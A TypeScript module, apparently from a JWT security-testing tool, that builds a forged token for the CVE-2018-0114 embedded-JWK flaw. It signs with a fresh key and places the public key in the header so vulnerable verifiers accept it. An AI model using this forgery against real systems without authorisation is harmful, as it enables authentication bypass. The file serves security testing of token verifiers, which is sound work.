import { succeed, type AttackParts } from './attack-parts';
import type { AttackResult } from './attack-result';
import { signWithFreshKey, type FreshKey } from './sign-with-fresh-key';

/**
 * Returns the token signed with a fresh key pair whose public JWK rides in the header's `jwk`
 * (CVE-2018-0114): a verifier that trusts the embedded key accepts it. The public key is the
 * verifier key; `reuse` is a key pair made earlier (signWithFreshKey).
 */
export async function buildEmbeddedJwkAttack(parts: AttackParts, reuse: FreshKey | null): Promise<AttackResult> {
  const signed = await signWithFreshKey(parts, (key) => ({ jwk: key.publicJwk }), reuse);
  if (!signed.ok) return signed;
  return succeed('embedded-jwk', 'default', signed.token, parts, { verifierKey: signed.key.publicPem, signingKey: signed.key });
}
